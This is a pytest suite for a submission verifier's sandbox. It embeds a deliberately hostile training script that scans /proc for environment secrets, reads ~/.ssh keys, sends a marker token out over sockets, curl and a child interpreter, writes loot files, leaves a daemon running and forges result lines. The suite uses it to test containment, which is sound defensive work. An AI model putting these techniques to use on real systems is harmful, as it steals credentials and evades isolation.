"""pgolf-verify under attack.

A submission whose `train_gpt.py` tries every way out of the `--smoke` sandbox (network through `_socket`,
`sendto`, curl and a child interpreter; the parent's environment through /proc; writes outside the scratch
copy; the caller's ~/.ssh; a daemon that outlives the run; 50 MB on stdout; a forged result line) runs once
through the real CLI, in a subprocess that holds a fake token in its environment. Each test checks one
escape from outside: the listeners, the file system, /proc, the report. These skip, saying why, where
bubblewrap cannot create its namespaces.

Then the inputs that used to end in a traceback: each must give one line on stderr and exit 2.
"""

from __future__ import annotations

import json
import os
import secrets
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path
from types import SimpleNamespace

import pytest

from tests.support import ROOT
from tests.verify.test_verify_fixtures import make_record
from verify import cli as verify_cli
from verify.smoke import BWRAP_ENV, OUTPUT_CAP_BYTES, SANDBOX_BWRAP, sandbox_problem, smoke_test

SANDBOX_PROBLEM = sandbox_problem()
needs_sandbox = pytest.mark.skipif(
    bool(SANDBOX_PROBLEM), reason=f"bubblewrap cannot sandbox the smoke here: {SANDBOX_PROBLEM}"
)
DAEMON_SLEEP_S = 1.5
FLOOD_MB = 50

# The attacker. CFG is filled in by the test: ports of listeners in the test process, paths outside the
# sandbox, a unique token that marks every process and packet it makes.
HOSTILE = r"""
import json, os, socket, subprocess, sys, time

CFG = json.loads(%(cfg)r)
got = {}

def attempt(name, fn):
    try:
        got[name] = "OK: " + str(fn())[:300]
    except BaseException as e:
        got[name] = f"blocked: {type(e).__name__}: {e}"[:300]

def raw_tcp():  # under the socket guard's monkey-patch
    import _socket
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect(("127.0.0.1", CFG["tcp_port"]))
    s.send(b"raw-_socket " + CFG["token"].encode())
    return "connected"

def udp_local():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return s.sendto(b"udp " + CFG["token"].encode(), ("127.0.0.1", CFG["udp_port"]))

def udp_external():  # TEST-NET-1: routed nowhere, but a sent datagram shows the network was reachable
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return s.sendto(b"pgolf-smoke-test", ("192.0.2.1", 9))

def curl():
    url = "http://127.0.0.1:%%d/curl-%%s" %% (CFG["tcp_port"], CFG["token"])
    r = subprocess.run(["curl", "-s", "-m", "3", url], capture_output=True, timeout=10)
    if r.returncode:
        raise OSError(f"curl exit {r.returncode}")
    return r.stdout[:100]

def python_child():  # a fresh interpreter: no socket guard in it
    code = ("import socket, sys; s = socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=3); "
            "s.sendall(b'child ' + sys.argv[2].encode())")
    r = subprocess.run([sys.executable, "-c", code, str(CFG["tcp_port"]), CFG["token"]], capture_output=True,
                       timeout=10)
    if r.returncode:
        raise OSError(r.stderr.decode(errors="replace").strip().splitlines()[-1])
    return "sent"

def parent_environ():
    found = []
    for pid in [str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                env = fh.read()
        except OSError:
            continue
        found += [v.decode() for v in env.split(b"\0") if v.startswith(b"PGOLF_TEST_SECRET=")]
    if not found:
        raise PermissionError("no PGOLF_TEST_SECRET in any /proc/*/environ")
    return found

def write(path):
    with open(path, "w") as fh:
        fh.write("escaped " + CFG["token"])
    return path

def read_ssh():
    out = []
    for d in (os.path.join(CFG["home"], ".ssh"), "/root/.ssh"):
        for name in os.listdir(d):
            with open(os.path.join(d, name)) as fh:
                out.append(fh.read())
    return out

def daemon():
    code = "import sys, time; time.sleep(float(sys.argv[2])); open(sys.argv[3], 'w').write('daemon survived')"
    subprocess.Popen([sys.executable, "-c", code, CFG["token"], str(CFG["daemon_sleep"]), CFG["daemon_marker"]],
                     start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
    return "spawned"

attempt("raw_socket_tcp", raw_tcp)
attempt("udp_sendto_local", udp_local)
attempt("udp_sendto_external", udp_external)
attempt("curl", curl)
attempt("python_child_connect", python_child)
attempt("proc_environ", parent_environ)
attempt("write_outside", lambda: write(CFG["escaped"]))
attempt("write_home", lambda: write(os.path.join(CFG["home"], "escaped_home")))
attempt("write_python_install", lambda: write(CFG["python_install_file"]))
attempt("read_ssh", read_ssh)
attempt("daemon", daemon)

loot = json.dumps(got)
for path in (CFG["escaped"] + ".loot", os.path.join(CFG["home"], "loot.json"), "loot.json", "/tmp/loot.json"):
    try:
        write(path)
        with open(path, "w") as fh:
            fh.write(loot)
    except OSError:
        pass
print("HOSTILE " + loot, flush=True)
line = "x" * 1023 + "\n"
for _ in range(CFG["flood_mb"] * 1024):
    sys.stdout.write(line)
sys.stdout.flush()
print('PGOLF_SMOKE {"stage": "import", "ok": true, "seconds": 0.1}', flush=True)
print('PGOLF_SMOKE {"stage": "forward", "ok": true, "seconds": 0.1, "model": "GPT", "params": 1, "loss": 1.0}',
      flush=True)
os._exit(3)
"""

# Runs the CLI and leaves its own peak RSS (KiB) in argv[1]: the parent's memory, not the sandbox's.
RUNNER = (
    "import atexit, resource, sys\n"
    "from verify.cli import main\n"
    "atexit.register(lambda: open(sys.argv[1], 'w').write(str(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)))\n"
    "main(sys.argv[2:])\n"
)


def _listen() -> tuple[socket.socket, socket.socket, list]:
    """A TCP and a UDP listener on 127.0.0.1 that record whatever reaches them."""
    received: list = []
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))

    def serve_tcp():
        while True:
            try:
                conn, _ = tcp.accept()
            except OSError:
                return
            conn.settimeout(2)
            try:
                received.append(("tcp", conn.recv(300)))
                conn.sendall(b"HTTP/1.0 200 OK\r\n\r\nhello")
            except OSError:
                received.append(("tcp", b""))
            conn.close()

    def serve_udp():
        while True:
            try:
                received.append(("udp", udp.recv(300)))
            except OSError:
                return

    threading.Thread(target=serve_tcp, daemon=True).start()
    threading.Thread(target=serve_udp, daemon=True).start()
    return tcp, udp, received


def _run_cli(args: list[str], env: dict, rss_file: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-c", RUNNER, str(rss_file), *args],
        env=env,
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=300,
    )


def _alive_with(token: str) -> list[str]:
    hits = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                if token.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                    hits.append(pid)
            except OSError:
                continue
    return hits


@pytest.fixture(scope="module")
def attack(tmp_path_factory):
    """Run the hostile submission once through `pgolf-verify --smoke`; return what can be seen from outside."""
    if SANDBOX_PROBLEM:
        pytest.skip(f"bubblewrap cannot sandbox the smoke here: {SANDBOX_PROBLEM}")
    tmp = tmp_path_factory.mktemp("hostile")
    home = tmp / "home"
    (home / ".ssh").mkdir(parents=True)
    ssh_secret = "SSH-PRIVATE-" + secrets.token_hex(8)
    (home / ".ssh" / "id_rsa").write_text(ssh_secret)
    env_secret = "tok-" + secrets.token_hex(12)
    token = "pgolfhostile" + secrets.token_hex(6)
    tcp, udp, received = _listen()
    cfg = {
        "tcp_port": tcp.getsockname()[1],
        "udp_port": udp.getsockname()[1],
        "token": token,
        "escaped": str(tmp / "escaped"),
        "home": str(home),
        "python_install_file": os.path.join(sys.prefix, f"pgolf_escaped_{token}"),
        "daemon_marker": str(tmp / "daemon_marker"),
        "daemon_sleep": DAEMON_SLEEP_S,
        "flood_mb": FLOOD_MB,
    }
    folder = make_record(tmp / "sub", script=HOSTILE % {"cfg": json.dumps(cfg)}, logs=False)
    out = tmp / "out"
    env = {**os.environ, "PGOLF_TEST_SECRET": env_secret, "HOME": str(home)}  # in the CLI's own /proc environ
    env.pop(BWRAP_ENV, None)
    home_before = sorted(p.name for p in home.iterdir())
    base = _run_cli(
        [str(make_record(tmp / "base", script="raise RuntimeError('benign')\n", logs=False)), "--smoke", "-q"],
        env,
        tmp / "rss_base",
    )
    proc = _run_cli([str(folder), "--smoke", "--format", "json", "-q", "--out", str(out)], env, tmp / "rss_attack")
    alive_after = _alive_with(token)
    time.sleep(DAEMON_SLEEP_S + 1.0)  # long enough for a surviving daemon to leave its marker
    tcp.close()
    udp.close()
    log = out / "smoke.log"
    head = log.read_text(errors="replace").splitlines()[:1] if log.exists() else []
    got = json.loads(head[0][len("HOSTILE ") :]) if head and head[0].startswith("HOSTILE ") else {}
    python_install_file = Path(cfg["python_install_file"])
    escaped_into_install = python_install_file.exists()
    if escaped_into_install:
        python_install_file.unlink()
    return SimpleNamespace(
        proc=proc,
        base=base,
        report=json.loads(proc.stdout) if proc.stdout.strip() else {},
        got=got,
        received=received,
        alive_after=alive_after,
        tmp=tmp,
        home=home,
        home_before=home_before,
        log=log,
        env_secret=env_secret,
        ssh_secret=ssh_secret,
        token=token,
        escaped_into_install=escaped_into_install,
        rss_base_kb=int((tmp / "rss_base").read_text()),
        rss_attack_kb=int((tmp / "rss_attack").read_text()),
    )


@pytest.mark.slow
@needs_sandbox
def test_the_attack_ran_sandboxed_and_failed(attack):
    assert attack.proc.returncode == 1, attack.proc.stderr
    rep = attack.report
    assert rep["mode"] == "smoke" and rep["smoke"]["sandbox"] == SANDBOX_BWRAP
    assert "Traceback" not in attack.proc.stderr
    assert set(attack.got) >= {"raw_socket_tcp", "proc_environ", "write_outside", "daemon"}, "the attack did not run"


@pytest.mark.slow
@needs_sandbox
def test_forged_result_lines_on_stdout_mean_nothing(attack):
    rep = attack.report
    assert rep["verdict"] == "failed" and rep["smoke"]["ok"] is False
    assert "died before reporting" in rep["reason"]
    assert "PGOLF_SMOKE" in rep["smoke"]["detail"]  # it did print them


@pytest.mark.slow
@needs_sandbox
def test_no_network_at_all(attack):
    assert attack.received == [], "a packet or connection from the sandbox reached the host"
    # (a datagram to 127.0.0.1 "sends" on the sandbox's own loopback: that it never arrived is checked above)
    for name in ("raw_socket_tcp", "udp_sendto_external", "curl", "python_child_connect"):
        assert attack.got[name].startswith("blocked"), (name, attack.got[name])


@pytest.mark.slow
@needs_sandbox
def test_the_callers_environment_stays_secret(attack):
    assert attack.got["proc_environ"].startswith("blocked"), attack.got["proc_environ"]
    assert attack.env_secret not in attack.proc.stdout + attack.proc.stderr
    for path in attack.tmp.rglob("*"):
        if path.is_file():
            assert attack.env_secret.encode() not in path.read_bytes(), path


@pytest.mark.slow
@needs_sandbox
def test_no_writes_outside_the_scratch_copy(attack):
    for name in ("write_outside", "write_home", "write_python_install"):
        assert attack.got[name].startswith("blocked"), (name, attack.got[name])
    assert not (attack.tmp / "escaped").exists() and not (attack.tmp / "escaped.loot").exists()
    assert sorted(p.name for p in attack.home.iterdir()) == attack.home_before
    assert not attack.escaped_into_install
    assert not list(attack.tmp.rglob("loot.json"))


@pytest.mark.slow
@needs_sandbox
def test_the_callers_home_is_not_readable(attack):
    assert attack.got["read_ssh"].startswith("blocked"), attack.got["read_ssh"]
    assert attack.ssh_secret not in attack.proc.stdout + attack.log.read_text(errors="replace")


@pytest.mark.slow
@needs_sandbox
def test_no_process_outlives_the_sandbox(attack):
    assert attack.got["daemon"] == "OK: spawned"  # it could start one inside...
    assert attack.alive_after == []  # ...which was gone when the CLI returned
    assert _alive_with(attack.token) == []
    assert not (attack.tmp / "daemon_marker").exists()


@pytest.mark.slow
@needs_sandbox
def test_an_output_flood_is_capped_on_disk_not_held_in_memory(attack):
    assert attack.log.exists() and attack.log.stat().st_size <= OUTPUT_CAP_BYTES
    assert attack.log.read_text(errors="replace").rstrip().endswith("the first ones kept]")
    smoke = attack.report["smoke"]
    assert smoke["output_truncated"] and smoke["output_bytes"] >= FLOOD_MB * 2**20
    assert attack.base.returncode == 1, attack.base.stderr  # the benign baseline ran
    # 50 MB through communicate() would show here; streamed to a capped file it does not
    assert attack.rss_attack_kb - attack.rss_base_kb < 20 * 1024, (attack.rss_base_kb, attack.rss_attack_kb)


@pytest.mark.slow
@needs_sandbox
def test_a_forged_line_on_the_result_pipe_is_rejected(tmp_path):
    """The submission finds the result pipe among its fds and writes a passing result with a guessed nonce."""
    script = (
        "import os, stat\n"
        'line = b\'{"stage": "import", "ok": true, "seconds": 0.1, "nonce": "0000"}\\n\'\n'
        "hit = 0\n"
        "for fd in range(3, 64):\n"
        "    try:\n"
        "        if stat.S_ISFIFO(os.fstat(fd).st_mode):\n"
        "            hit += os.write(fd, line) > 0\n"
        "    except OSError:\n"
        "        pass\n"
        "print('forged on', hit, 'pipe(s)', flush=True)\n"
        "os._exit(0)\n"
    )
    res = smoke_test(make_record(tmp_path, script=script, logs=False), "train_gpt.py", timeout_s=60)
    assert "forged on 1 pipe(s)" in res.detail  # it found the result pipe...
    assert not res.ok and res.stage == "result" and "wrong nonce" in res.summary  # ...and was caught


@pytest.mark.slow
@needs_sandbox
def test_a_hang_is_killed_with_everything_it_started(tmp_path):
    """Sleeping uses no CPU time, and with its pipes closed the parent sees no end-of-file: only the deadline."""
    token = "pgolfhang" + secrets.token_hex(6)
    script = (
        "import os, subprocess, sys, time\n"
        f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', '{token}'], start_new_session=True)\n"
        "os.closerange(0, 256)  # every pipe to the parent closed: only the clock can end this\n"
        "while True:\n"
        "    time.sleep(0.1)\n"
    )
    res = smoke_test(make_record(tmp_path, script=script, logs=False), "train_gpt.py", timeout_s=3)
    assert not res.ok and res.stage == "timeout" and "within 3 s" in res.summary
    assert _alive_with(token) == []


# --- one line, exit 2, never a traceback --------------------------------------------------------------
def _run(capsys, *args) -> tuple[int, str]:
    with pytest.raises(SystemExit) as exc:
        verify_cli.main([str(a) for a in args])
    _, err = capsys.readouterr()
    return exc.value.code, err


def _one_line(err: str) -> str:
    assert "Traceback" not in err
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    return lines[0]


@pytest.mark.parametrize(
    ("ledger", "needle"),
    [
        ([], "top level is a JSON list"),
        ({"seeds": {}}, "no schema_version"),
        ({"schema_version": 99, "seeds": {}}, "schema_version 99"),
        ({"schema_version": 1, "seeds": []}, "'seeds' is missing or not an object"),
        ({"schema_version": 1, "seeds": {"42": "done"}}, "seed 42: not an object"),
        ({"schema_version": 1, "seeds": {"42": {"state": 3}}}, "'state' is not a str"),
        ({"schema_version": 1, "seeds": {"42": {"state": "done", "result": {"seed": 42}}}}, "no 'fingerprint'"),
        (
            {
                "schema_version": 1,
                "seeds": {
                    "42": {"state": "done", "result": {"seed": 42, "fingerprint": "x", "status": "ok", "outputs": 7}}
                },
            },
            "'outputs' has the wrong type",
        ),
    ],
)
def test_a_ledger_of_the_wrong_shape_is_one_line(tmp_path, capsys, ledger, needle):
    folder = make_record(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    (out / "ledger.json").write_text(json.dumps(ledger))
    code, err = _run(capsys, folder, "--seeds", "42,", "--out", out, "--no-audit", "-q")
    line = _one_line(err)
    assert code == 2 and str(out / "ledger.json") in line and needle in line, line


def test_a_ledger_that_is_a_folder_is_one_line(tmp_path, capsys):
    folder = make_record(tmp_path)
    (tmp_path / "out" / "ledger.json").mkdir(parents=True)
    code, err = _run(capsys, folder, "--seeds", "42,", "--out", tmp_path / "out", "--no-audit", "-q")
    assert code == 2 and "unreadable ledger" in _one_line(err)


def test_an_out_that_is_a_file_is_one_line(tmp_path, capsys):
    folder = make_record(tmp_path)
    (tmp_path / "out").write_text("not a folder")
    code, err = _run(capsys, folder, "--seeds", "42,", "--out", tmp_path / "out", "--no-audit", "-q")
    assert code == 2 and "--out" in _one_line(err)


def test_a_path_that_is_a_file_is_one_line(tmp_path, capsys):
    (tmp_path / "train_gpt.py").write_text("print('hi')\n")
    code, err = _run(capsys, tmp_path / "train_gpt.py", "--smoke")
    assert code == 2 and "is a file" in _one_line(err)


@pytest.mark.parametrize("mode", [["--smoke"], ["--dry-run"], ["--logs-only"]])
def test_a_folder_without_an_entry_script_is_one_line(tmp_path, capsys, mode):
    (tmp_path / "README.md").write_text("# nothing to run here\n")
    code, err = _run(capsys, tmp_path, *mode)
    assert code == 2 and "entry" in _one_line(err)


def test_an_internal_error_is_one_line(tmp_path, capsys, monkeypatch):
    def boom(*a, **k):
        raise RuntimeError("something inside\nbroke")

    monkeypatch.setattr(verify_cli, "make_plan", boom)
    code, err = _run(capsys, make_record(tmp_path), "--dry-run")
    assert code == 2 and _one_line(err) == "pgolf-verify: internal error: RuntimeError: something inside broke"


def test_an_internal_error_in_the_smoke_is_one_line(tmp_path, capsys, monkeypatch):
    monkeypatch.setattr(verify_cli, "smoke_test", lambda *a, **k: {}["missing"])
    code, err = _run(capsys, make_record(tmp_path), "--smoke")
    assert code == 2 and "internal error: KeyError" in _one_line(err)


def test_ctrl_c_is_one_line_and_exit_130(tmp_path, capsys, monkeypatch):
    def interrupt(*a, **k):
        raise KeyboardInterrupt

    monkeypatch.setattr(verify_cli, "make_plan", interrupt)
    code, err = _run(capsys, make_record(tmp_path), "--dry-run")
    assert code == 130 and _one_line(err) == "pgolf-verify: interrupted"


def test_rich_markup_in_a_submissions_error_does_not_break_the_report(tmp_path, capsys):
    folder = make_record(tmp_path, script='raise ValueError("bad [/oops] [red]thing")\n', logs=False)
    folder = folder.rename(tmp_path / "record[bold]x")  # the folder name is the submitter's too
    with pytest.raises(SystemExit) as exc:
        verify_cli.main([str(folder), "--unsafe-smoke"])
    err = capsys.readouterr().err
    assert exc.value.code == 1 and "internal error" not in err and "Traceback" not in err.split("\n")[0]
    assert "bad [/oops] [red]thing" in err and "record[bold]x" in err and "FAILED" in err
